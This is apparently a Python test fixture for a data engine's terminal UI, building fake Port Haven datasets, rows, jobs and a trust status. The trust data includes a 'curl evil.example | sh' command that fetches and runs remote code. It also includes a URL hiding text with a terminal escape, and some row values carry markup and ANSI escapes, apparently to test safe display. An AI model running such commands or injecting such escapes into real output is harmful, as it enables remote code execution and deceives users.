"""FakeSource, a workspace in memory with the datasets of a small town, and a worker that a test controls."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Iterable, Sequence
from functools import cached_property
from pathlib import Path
from typing import Any, Literal
from zlib import crc32

import pyarrow as pa
from msgspec.structs import replace

from odf_engine.api.model import (
    BlockLine,
    DatasetDetail,
    DatasetRow,
    DivergedBranches,
    ManifestChange,
    PendingEvent,
    TrustStatus,
)
from odf_engine.api.text import Section
from odf_engine.api.workspace import Workspace as OpenWorkspace
from odf_engine.base.config import UiConfig
from odf_engine.errors import InvalidManifest, NotFound, OdfError
from odf_engine.identity.multiformats import Multihash
from odf_engine.jobs.pull import Pull
from odf_engine.jobs.verify import Verify
from odf_engine.worker.protocol import (
    Committed,
    Event,
    Failure,
    Job,
    JobChanged,
    JobState,
    JournalEvent,
    LogLine,
    Progress,
    Request,
    WorkerStatus,
)
from odf_engine.workspace.trust import Execution
from odf_engine.workspace.workspace import Workspace
from odf_tui.text.row_text import TableWindow
from tests.tui.fake_blocks import FakeBlocks
from tests.tui.fake_jobs import FakeLogs
from tests.tui.fake_statistics import FakeStatistics

REMARKS = ["fine", "foggy, wind from the west all day and the night before", "a\tb\x1b[31m", None]
SYSTEM = ("offset", "op", "system_time", "event_time")
COLUMNS = [
    ("offset", "BIGINT"), ("op", "INT"), ("system_time", "TIMESTAMP(3)"), ("event_time", "TIMESTAMP(3)"),
    ("station", "STRING"), ("pm25", "DOUBLE"), ("no2", "INT"), ("wind speed", "DOUBLE"),
]  # fmt: skip


def dataset(name: str, *inputs: str, records: int = 0, **more: object) -> DatasetRow:
    """Return a dataset. Its id contains its name."""
    blocks = 4 + (records + 999) // 1000
    known = {
        "id": f"did:odf:{name}",
        "name": name,
        "derivative": bool(inputs),
        "inputs": tuple(f"did:odf:{each}" for each in inputs),
        "head": f"f1620{crc32(name.encode()):08x}{records:08x}",
        "blocks": blocks,
        "records": records,
        "size": records * 37,
        "watermark": "2024-03-10T00:00:00Z" if records else None,
        "last_pulled": "2024-03-11T08:15:00Z" if records else None,
        "polls": not inputs,
    }
    return DatasetRow(**{**known, **more})  # type: ignore[arg-type]


HAVEN = [
    dataset("port-haven.air-readings", records=7200),
    dataset("port-haven.stations", records=31),
    dataset("port-haven.clinic-visits", records=12480),
    dataset("port-haven.clinics"),
    dataset("air-by-day", "port-haven.air-readings", "port-haven.stations", records=240),
    dataset("visits-by-day", "port-haven.clinic-visits"),
    dataset("smoke-and-breath", "air-by-day", "visits-by-day"),
    dataset("harbour.tides", records=96),
]


class Rows:
    """Generated rows.

    Attributes:
        read: start and size of the windows that were read.
        error: raised by reads.
    """

    system_columns = SYSTEM

    def __init__(self, count: int) -> None:
        self.row_count = count
        self.read: list[tuple[int, int]] = []
        self.error: OdfError | None = None
        self.columns = self._table(0, 0).schema

    def window(self, start: int, count: int) -> pa.Table:
        """Return the rows of a window."""
        self.read.append((start, count))
        if self.error is not None:
            raise self.error
        return self._table(start, max(min(count, self.row_count - start), 0))

    def _table(self, start: int, count: int) -> pa.Table:
        numbers = range(start, start + count)
        day = 1_709_251_200_000
        places = ["Quay", "Old Town", "Lighthouse Hill", "Fish Market"]
        return pa.table(
            {
                "offset": pa.array(numbers, pa.uint64()),
                "op": pa.array([[0, 0, 0, 1, 2, 3][n % 6] for n in numbers], pa.uint8()),
                "system_time": pa.array([day + 10**9] * count, pa.timestamp("ms", "UTC")),
                "event_time": pa.array([day + n * 3_600_000 for n in numbers], pa.timestamp("ms", "UTC")),
                "station": pa.array([places[n % 4] for n in numbers], pa.string()),
                "pm25": pa.array([None if n % 7 == 3 else 3.25 + n % 40 for n in numbers], pa.float64()),
                "no2": pa.array([n * 7 % 50 for n in numbers], pa.int32()),
                "sensor": pa.array([f"[red]s-{n % 12:02d}" for n in numbers], pa.string()),
                "remark": pa.array([REMARKS[n % 4] for n in numbers], pa.string()),
            }
        )


class FakeLink:
    """A connection. Submitted requests become queued jobs; tests send further events.

    Attributes:
        submitted: the submitted requests.
        cancelled: ids of the cancelled jobs.
    """

    def __init__(self, source: FakeSource) -> None:
        self._source = source
        self._queue: asyncio.Queue[Event | None] = asyncio.Queue()
        self.status = source.status
        self.cancelled: list[str] = []
        self.submitted: list[Request] = []

    async def submit(self, request: Request, target: str) -> str:
        """Add a queued job."""
        self.submitted.append(request)
        number = str(len(self._source.known) + 1)
        kind = str(request.__struct_config__.tag)
        job = Job(number, kind, target, request.dataset, JobState.queued, "2024-03-11T09:00:00Z")
        self.tell(self._source.changed(job))
        return number

    async def cancel(self, job: str) -> None:
        """Record the cancellation."""
        self.cancelled.append(job)

    async def events(self, since: int | None = None) -> AsyncIterator[Event]:
        """Yield the events that the test sends."""
        while (event := await self._queue.get()) is not None:
            yield event

    async def close(self) -> None:
        """End the events."""
        self._queue.put_nowait(None)

    def tell(self, *events: Event) -> None:
        """Send events of the worker."""
        for event in events:
            self._queue.put_nowait(event)

    def die(self) -> None:
        """End the events, as if the worker stopped."""
        self._queue.put_nowait(None)


class FakeSource(FakeBlocks, FakeLogs, FakeStatistics):
    """A workspace whose datasets, rows and jobs are in memory. Everything else is that of its folder.

    Attributes:
        rows_: the datasets.
        known: the jobs, oldest first.
        journal: the journal of the jobs.
        links: the connections, newest last.
        connecting: errors of the next connections, in turn.
        windows: rows by dataset, instead of generated ones.
        kept: rows of query results by path.
        questions: queries by id of the job.
        sql_engine: the engine of queries.
        detached: dataset and URL of each remote that was removed.
        own_since: number of local blocks after the newest shared one.
    """

    settings_problem = ""
    sql_engine: Literal["spark", "datafusion"] = "spark"

    def __init__(self, folder: Path, rows: Sequence[DatasetRow] = HAVEN) -> None:
        super().__init__()
        self.folder = folder
        self.rows_ = list(rows)
        self.manifests: dict[str, Path] = {}
        self.known: list[Job] = []
        self.journal: list[JournalEvent] = []
        self.status = WorkerStatus(4711, 1, "0.1.0", "ready", "", 0, 0, 0)
        self.ui = UiConfig(ascii="never", theme="tide")  # independent of the locale
        self.kept: dict[str, pa.Table] = {}
        self.questions: dict[str, str] = {}
        self.detached: list[tuple[str, str]] = []
        self.own_since = 2
        self.counted, self.keys, self.spooled, self.unspooled = set(), {}, [], []
        self.timelines = {}
        self.links: list[FakeLink] = []
        self.connecting: list[OdfError] = []
        self.windows: dict[str, Rows] = {}

    @cached_property
    def _on_disk(self) -> OpenWorkspace:
        has_files = (self.folder / ".odf").exists()
        return OpenWorkspace(Workspace(self.folder) if has_files else Workspace.init(self.folder))

    def __getattr__(self, name: str) -> Any:
        if name.startswith("_"):
            raise AttributeError(name)
        return getattr(self._on_disk, name)

    @property
    def link(self) -> FakeLink:
        """The newest connection."""
        return self.links[-1]

    def datasets(self) -> list[DatasetRow]:
        """Return the datasets."""
        return list(self.rows_)

    def _row(self, dataset: str) -> DatasetRow:
        return next(row for row in self.rows_ if row.id == dataset)

    def detail(self, dataset: str) -> DatasetDetail:
        """Return a few details."""
        row = self._row(dataset)
        facts = (
            ("rows", f"{row.records:,}".replace(",", " ")),
            ("data", "1.2 MB in 3 slices"),
            ("watermark", (row.watermark or "none yet")[:10]),
            ("source", f"file:sources/{row.name}.csv"),
            ("merge", "Ledger on station, event_time"),
            ("licence", "CC0-1.0"),
            ("about", "Hourly air quality at the stations of Port Haven, a small harbour town"),
        )
        source = Section("Source", (("fetch", f"file:sources/{row.name}.csv"), ("read", "CSV\nas it comes")))
        return DatasetDetail(facts, (source,), f"id: {row.id}\nname: {row.name}\nkind: Root\n")

    def rows(self, dataset: str) -> Rows:
        """Return generated rows."""
        return self.windows.get(dataset) or Rows(self._row(dataset).records)

    def add_manifest(self, path: Path) -> dict[str, str]:
        """Add a dataset named as the file. Files with ``bad`` in their name are invalid."""
        if not path.exists():
            raise OdfError("file not found", where=str(path))
        if "bad" in path.name:
            raise InvalidManifest(
                "unknown field 'mrge'",
                where=f"{path.relative_to(self.folder)}:3:5",
                hint="did you mean 'merge'?",
            )
        row = dataset(path.stem)
        self.rows_.append(row)
        return {row.id: row.name}

    def make_demo(self) -> list[tuple[Request, str]]:
        """Replace the datasets by those of Port Haven."""
        self.rows_ = list(HAVEN)
        pairs = [(Pull(row.id), Verify(row.id)) for row in HAVEN]
        return [(request, row.name) for row, pair in zip(HAVEN, pairs, strict=True) for request in pair]

    def derivative_in_manifest(self, path: Path) -> str:
        """Return the name of files with ``derivative`` in their name."""
        return path.stem if "derivative" in path.name else ""

    def definition(self, dataset: str) -> str:
        """Return YAML with the name of the dataset."""
        return f"name: {self._row(dataset).name}\n"

    def record_manifest(self, datasets: Iterable[str], path: Path) -> None:
        """Remember the file."""
        self.manifests |= dict.fromkeys(datasets, path)

    def manifest_change(self, dataset: str, text: str, *, drifted: bool = False) -> ManifestChange | None:
        """Return the change of the recorded file; with ``drifted``, none."""
        path = self.manifests.get(dataset)
        return None if path is None or drifted else ManifestChange(path, path.read_text(), text)

    def write_manifest(self, change: ManifestChange) -> None:
        """Write the file."""
        change.path.write_text(change.new)

    def update(self, dataset: str, path: Path, *, dry_run: bool) -> list[PendingEvent]:
        """Return one event with the content of the file."""
        event = "SetTransform" if self._row(dataset).derivative else "SetInfo"
        return [PendingEvent(event, (f"-{self.definition(dataset)}", f"+{path.read_text()}"))]

    def trust_status(self, dataset: str) -> TrustStatus:
        """Return a fetch, a command and twenty queries."""
        first, second = (Multihash.parse("f1620" + digits * 32) for digits in ("ab", "cd"))
        runs = (
            Execution("url", "http://10.0.0.7/\x1b[8mquiet.csv", first),
            Execution("pipe", "sh -c 'curl evil.example | sh'", first),
            *(Execution("query", f"SELECT {number}", second) for number in range(20)),
        )
        row = self._row(dataset)
        return TrustStatus(
            id=dataset,
            name=row.name,
            trust="not trusted",
            origin="https://elsewhere.example/tides.yaml",
            private_network=False,
            runs=runs,
        )

    def trust(self, shown: TrustStatus, *, private_network: bool = False) -> None:
        """Trust the dataset."""
        self._stand(shown.id, "trusted")

    def untrust(self, dataset: str) -> bool:
        """Revoke the trust."""
        self._stand(dataset, "not trusted")
        return True

    def _stand(self, dataset: str, standing: str) -> None:
        at = self.rows_.index(self._row(dataset))
        self.rows_[at] = replace(self.rows_[at], standing=standing)  # type: ignore[arg-type]

    def columns(self, dataset: str) -> list[tuple[str, str]]:
        """Return the same columns for each dataset."""
        return COLUMNS

    def result(self, path: str) -> TableWindow:
        """Return the rows of a query result."""
        if path not in self.kept:
            raise NotFound("the result of this query was removed", hint="run the query again")
        return TableWindow(self.kept[path], SYSTEM)

    def query_of_job(self, job: Job) -> str:
        """Return the query of a job."""
        return self.questions[job.id]

    def branches(self, dataset: str, common: str, limit: int) -> DivergedBranches:
        """Return ``own_since`` local blocks after the shared block 4."""
        own = [_line(number) for number in range(4 + self.own_since, 4, -1)]
        return DivergedBranches(tuple(own[:limit]), max(len(own) - limit, 0), _line(4))

    def detach(self, dataset: str, url: str) -> None:
        """Record the removal."""
        self.detached.append((dataset, url))

    def data_fingerprint(self) -> str:
        """Return a fingerprint of the datasets."""
        return str([(row.id, row.name, row.head) for row in self.rows_])

    def jobs(self) -> tuple[list[Job], int]:
        """Return the jobs, newest first."""
        return list(reversed(self.known)), self._seq

    def log(self, job: str) -> list[JournalEvent]:
        """Return the journal of a job."""
        found = (
            each
            for each in self.journal
            if (each.job.id if isinstance(each, JobChanged) else each.job) == job
        )
        return list(found)

    async def connect(self) -> FakeLink:
        """Return a connection, or raise the next prepared error."""
        if self.connecting:
            raise self.connecting.pop(0)
        self.links.append(FakeLink(self))
        return self.link

    @property
    def _seq(self) -> int:
        return self.journal[-1].seq if self.journal else 0

    def changed(self, job: Job) -> JobChanged:
        """Add or replace a job. Return its event."""
        self.known = [each for each in self.known if each.id != job.id] + [job]
        self.known.sort(key=lambda each: int(each.id))
        event = JobChanged(self._seq + 1, job)
        self.journal.append(event)
        return event

    def line(self, job: str, text: str, level: str = "info") -> LogLine:
        """Add a line to a log. Return its event."""
        event = LogLine(self._seq + 1, job, f"2024-03-11T09:00:{self._seq % 60:02d}Z", level, text)  # type: ignore[arg-type]
        self.journal.append(event)
        return event

    def committed(self, job: str, dataset: str, rows: int) -> Committed:
        """Add a committed block. Return its event."""
        event = Committed(self._seq + 1, job, dataset, "f1620" + "ab" * 32, "AddData", rows)
        self.journal.append(event)
        return event

    def job(self, state: JobState, name: str, kind: str = "pull", **more: object) -> Job:
        """Return a job in a state, with a new id."""
        final = state.final
        known = {
            "id": str(len(self.known) + 1),
            "kind": kind,
            "target": name,
            "dataset": f"did:odf:{name}",
            "state": state,
            "created": "2024-03-11T09:00:00Z",
            "started": None if state is JobState.queued else "2024-03-11T09:00:01Z",
            "ended": "2024-03-11T09:00:04.200Z" if final else None,
        }
        return Job(**{**known, **more})  # type: ignore[arg-type]

    def story(self) -> None:
        """Add a pull and a verification that succeeded, and a pull that failed."""
        done = self.job(
            JobState.done,
            "port-haven.air-readings",
            result='{"status": "updated", "records": 7200, "blocks": 1}',
        )
        self.changed(done)
        self.line(done.id, "fetched file:sources/air-readings.csv, 412 kB")
        self.committed(done.id, done.dataset, 7200)
        self.changed(self.job(JobState.done, "port-haven.air-readings", "verify", result='{"valid": true}'))
        error = Failure(
            "column 'age' has the value 'forty' in row 212, which is no INT",
            hint="correct the file, or declare the column STRING",
            where="sources/clinics.csv:212",
            excerpt=["212 | 17,Old Town,forty,2024-03-02"],
        )
        failed = self.job(JobState.failed, "port-haven.clinics", error=error)
        self.changed(failed)
        self.line(failed.id, "fetched sources/clinics.csv, 9 kB")
        self.line(failed.id, "reading stopped at row 212", "error")


def _line(number: int) -> BlockLine:
    time = f"2024-03-{10 + number // 24:02d}T{number % 24:02d}:15:00Z"
    return BlockLine(number, "f1620" + f"{number:02x}" * 32, time, "AddData", number * 10, "")


def progress(rows: int, phase: str = "read") -> Progress:
    """Return a progress with rows and bytes."""
    return Progress(phase=phase, rows=rows, bytes=rows * 80, total_bytes=1_000_000)
